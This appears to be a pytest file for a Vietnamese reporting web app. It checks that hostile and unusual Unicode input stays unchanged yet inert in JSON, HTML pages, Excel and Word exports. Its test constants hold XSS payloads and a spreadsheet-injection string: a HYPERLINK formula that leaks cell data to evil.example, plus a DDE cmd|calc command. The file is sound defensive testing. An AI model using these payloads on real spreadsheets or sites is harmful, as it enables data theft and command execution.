"""Odd but legitimate text (combining marks, zero-width characters, right-to-left marks, 4-byte
emoji) and hostile text (HTML, spreadsheet formulas) are stored exactly as sent and come back
unchanged and inert everywhere: JSON, the collaborator's page, the reviewer's queue and report
page, the Word report and the spreadsheet."""
import io
import re
import uuid
import zipfile

import docx
import openpyxl
from sqlalchemy import select

from opinion.extensions import db
from opinion.models import Report
from opinion.timezone import local_today
from tests.conftest import csrf_token_in

# NFC already (the server normalises to NFC); x + combining tilde has no precomposed form.
ODD = ("Bà con 👨‍👩‍👧 nói\u200b “đường” \u202eđảo chiều\u202c x\u0303 \u200dghép\ufeff 𝔸 "
       "<script>alert(1)</script> <img src=x onerror=alert(2)> \u05e9\u05dc\u05d5\u05dd")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây") cmd|\' /C calc\'!A0'


def _submit(client, token, text):
    answer = client.post("/api/v1/reports", json={"kind": "field", "source": "truc_tiep", "text": text},
                         headers={"Authorization": f"Bearer {token}", "Idempotency-Key": str(uuid.uuid4())})
    assert answer.status_code == 201, answer.get_json()
    return answer.get_json()


def _month() -> str:
    return local_today().strftime("%Y-%m")


def test_odd_and_hostile_text_survives_every_output(client, users, api_token, login, logout):
    token = api_token(users["ctv"])
    odd, formula = _submit(client, token, ODD), _submit(client, token, FORMULA)
    assert odd["text"] == ODD and formula["text"] == FORMULA
    reviewer = api_token(users["reviewer"])
    assert client.get(f"/api/v1/reports/{odd['id']}",
                      headers={"Authorization": f"Bearer {reviewer}"}).get_json()["text"] == ODD
    # Urgent, so that the Word report quotes it among the month's main matters.
    assert client.patch(f"/api/v1/reports/{odd['id']}/labels", json={"urgency": "khan_cap"},
                        headers={"Authorization": f"Bearer {reviewer}"}).status_code == 200

    login(users["ctv"])
    for page in (client.get(f"/bao-cao/{odd['id']}"), client.get("/bao-cao/cua-toi")):
        html = page.get_data(as_text=True)
        assert "<script>alert(1)</script>" not in html and "<img src=x" not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
        assert "👨‍👩‍👧" in html and "x\u0303" in html and "\u202eđảo chiều\u202c" in html
    logout()

    login(users["reviewer"])
    for url in ("/xu-ly/", f"/xu-ly/bao-cao/{odd['id']}", "/bao-cao-thang?month=" + _month()):
        html = client.get(url).get_data(as_text=True)
        assert "<script>alert(1)</script>" not in html and "onerror=alert(2)>" not in html, url
    report_page = client.get(f"/xu-ly/bao-cao/{odd['id']}").get_data(as_text=True)
    assert "👨‍👩‍👧" in report_page and "\u05e9\u05dc\u05d5\u05dd" in report_page

    sheet = client.get(f"/reports/monthly.xlsx?month={_month()}")
    assert sheet.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(sheet.data))
    texts = {row[-1].value: row[-1] for row in book["Báo cáo trong tháng"].iter_rows(min_row=2)}
    assert ODD in texts and FORMULA in texts  # unchanged, character for character
    assert texts[FORMULA].data_type == "s"  # a text cell: never evaluated as a formula
    with zipfile.ZipFile(io.BytesIO(sheet.data)) as package:
        assert not any("<f>" in package.read(name).decode() for name in package.namelist()
                       if name.startswith("xl/worksheets/"))

    word = client.get(f"/reports/monthly.docx?month={_month()}")
    assert word.status_code == 200
    document = docx.Document(io.BytesIO(word.data))
    body = "\n".join(p.text for p in document.paragraphs) + "\n".join(
        cell.text for table in document.tables for row in table.rows for cell in row.cells)
    assert "👨‍👩‍👧 nói\u200b “đường” \u202eđảo chiều\u202c x\u0303" in body  # quoted as text, unchanged
    with zipfile.ZipFile(io.BytesIO(word.data)) as package:
        xml = package.read("word/document.xml").decode()
    assert "<script>" not in xml and "<img src" not in xml  # escaped in the XML, never markup


def test_control_characters_are_dropped_from_json_and_forms(client, users, api_token, login):
    token = api_token(users["ctv"])
    answer = client.post("/api/v1/reports", json={"kind": "field", "source": "truc_tiep",
                                                  "text": "Người dân phản ánh\x00\x07 đường hỏng\x1b nặng.\n👍"},
                         headers={"Authorization": f"Bearer {token}", "Idempotency-Key": str(uuid.uuid4())})
    assert answer.status_code == 201
    assert answer.get_json()["text"] == "Người dân phản ánh đường hỏng nặng.\n👍"

    login(users["ctv"])
    form = client.get("/bao-cao/thuc-te").get_data(as_text=True)
    key = re.search(r'name="submission_key"[^>]*value="([^"]+)"', form).group(1)
    sent = client.post("/bao-cao/thuc-te", data={
        "csrf_token": csrf_token_in(form), "submission_key": key, "source": "truc_tiep",
        "text": "Bà con\x00 hỏi về\x0c tiền hỗ trợ lũ.\u200d"})
    assert sent.status_code == 302
    assert db.session.scalar(select(Report.text).where(Report.submission_key == key)) == "Bà con hỏi về tiền hỗ trợ lũ.\u200d"


def test_control_characters_in_the_address_get_a_vietnamese_400(client, users, api_token, login):
    reviewer = api_token(users["reviewer"])
    answer = client.get("/api/v1/queue?q=%00abc", headers={"Authorization": f"Bearer {reviewer}"})
    assert answer.status_code == 400 and "ký tự điều khiển" in answer.get_json()["error"]["message"]
    login(users["reviewer"])
    page = client.get("/xu-ly/?q=a%00b")
    assert page.status_code == 400 and "ký tự điều khiển" in page.get_data(as_text=True)
